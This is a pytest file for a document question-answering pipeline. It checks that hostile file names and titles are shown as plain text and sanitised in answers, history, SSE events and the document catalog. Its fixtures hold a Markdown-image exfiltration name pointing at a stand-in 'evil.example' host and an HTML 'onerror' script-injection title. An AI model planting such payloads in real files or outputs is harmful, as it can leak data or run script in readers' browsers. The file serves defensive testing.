"""A corpus whose file names and titles are hostile, answered by an honest LM over a real socket.

A file named like a Markdown link and image never turns an answer citing it into one (`ask --json`, `history
ID`, the SSE `completed` event: the answer Markdown and every bullet), and titles holding HTML (a PDF's /Title,
Markdown front matter) are sanitised when the file is indexed, so the catalog and `/v1/documents` hold text.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fpdf import FPDF
from markdown_it import MarkdownIt

from pipeline.cli.main import main
from pipeline.program.events import Section
from pipeline.serving import parse_sse, running_server
from pipeline.serving.server import build_app
from pipeline.store import open_store
from tests.support.compromised_server import compromised_server
from tests.support.harmless import assert_markdown_safe

HOSTILE_NAME = "rent](https:evil.example) ![p](https:evil.example?d=secret) [y.md"
HOSTILE_TITLE = "Rent <img src=x onerror=window.__pwned=13>"
QUESTION = "What is the monthly rent?"


def _pdf(path: Path, title: str, text: str) -> None:
    document = FPDF()
    document.set_font("Helvetica", size=11)
    document.set_title(title)
    document.add_page()
    document.multi_cell(0, 6, text)
    document.output(str(path))


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile-corpus")
    (root / HOSTILE_NAME).write_text("# Lease\n\nThe monthly rent is KSH 285,000, payable in advance.\n")
    (root / "notes.md").write_text(
        f'---\ntitle: "{HOSTILE_TITLE}"\n---\n\nThe garden is watered on Tuesdays by the caretaker.\n'
    )
    _pdf(root / "valuation.pdf", HOSTILE_TITLE, "The market value of the house is KSH 45,000,000 as at June 2023.")
    return root


@pytest.fixture(scope="module")
def index_dir(corpus: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hostile-index")
    assert main(["index", str(corpus), "--out", str(out), "--embedder", "hash", "--json"]) == 0
    return out


@pytest.fixture(scope="module")
def lm_url() -> Iterator[str]:
    with compromised_server("honest") as (url, _):
        yield url


def _shown_text(markdown: str) -> str:
    """What a CommonMark renderer shows of `markdown`: its text, without the markup."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    return "".join(c.content for t in tokens if t.type == "inline" for c in t.children or [] if c.type == "text")


def _assert_answer_cites_the_file_as_text(done: dict[str, Any]) -> None:
    assert_markdown_safe(done["answer"])
    sections = [Section.model_validate(s) for s in done["sections"]]
    lines = [line for s in sections for line in (s.cited_answer, *s.cited_evidence)]
    for line in lines:
        assert_markdown_safe(f"- {line}")
    cited = [line for line in lines if f"[{HOSTILE_NAME}, page 1]" in _shown_text(f"- {line}")]
    assert cited, lines  # the file was cited, and its name reads as written
    assert f"[{HOSTILE_NAME}, page 1]" in _shown_text(done["answer"])
    assert {s["filename"] for section in done["sections"] for s in section["sources"]} >= {HOSTILE_NAME}


def test_ask_json_and_history_show_a_hostile_file_name_as_text(
    index_dir: Path, lm_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DSPY_CACHEDIR", str(tmp_path / "dspy-cache"))
    history = str(tmp_path / "history.sqlite")
    common = ["--index", str(index_dir), "--lm", lm_url, "--history", history]
    capsys.readouterr()
    assert main(["ask", QUESTION, *common, "--json"]) == 0
    done = json.loads(capsys.readouterr().out)
    _assert_answer_cites_the_file_as_text(done)
    assert main(["history", done["history_id"], "--history", history, "--json"]) == 0
    trace = json.loads(capsys.readouterr().out)
    assert_markdown_safe(trace["answer"])
    assert trace["answer"] == done["answer"]


def test_the_sse_answer_shows_a_hostile_file_name_as_text(
    index_dir: Path, lm_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pipeline.cli.common import configure_dspy

    monkeypatch.setenv("DSPY_CACHEDIR", str(tmp_path / "dspy-cache"))
    configure_dspy()
    app = build_app(index_dir=index_dir, lm_spec=lm_url, cache_dir=tmp_path / "models", history=tmp_path / "h.sqlite")
    with running_server(app) as base, httpx.Client(timeout=60) as client:
        with client.stream("POST", f"{base}/v1/query", json={"question": QUESTION}) as response:
            assert response.status_code == 200
            events = list(parse_sse(response.iter_lines()))
        assert events[-1].event == "completed"
        _assert_answer_cites_the_file_as_text(events[-1].data)
        found = client.get(f"{base}/v1/documents", params={"q": "garden market value", "k": 10}).json()["documents"]
    titles = {d["filename"]: d["title"] for d in found}
    assert titles["notes.md"] == titles["valuation.pdf"] == "Rent"


def test_titles_holding_html_are_sanitised_when_the_file_is_indexed(index_dir: Path) -> None:
    documents = {d.filename: d for d in open_store(index_dir).catalog.documents.values()}
    assert documents["notes.md"].title == documents["valuation.pdf"].title == "Rent"  # front matter, PDF /Title
    assert all("<" not in d.title and "<" not in d.summary for d in documents.values())
